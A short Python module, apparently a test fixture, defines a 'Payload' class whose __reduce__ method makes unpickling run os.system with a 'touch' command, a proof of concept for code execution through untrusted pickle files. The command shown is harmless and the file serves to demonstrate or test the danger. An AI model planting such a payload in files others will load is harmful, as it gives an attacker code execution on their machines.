"""What a file from somebody else may hold."""

from __future__ import annotations

import os
from pathlib import Path


class Payload:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.path}",)
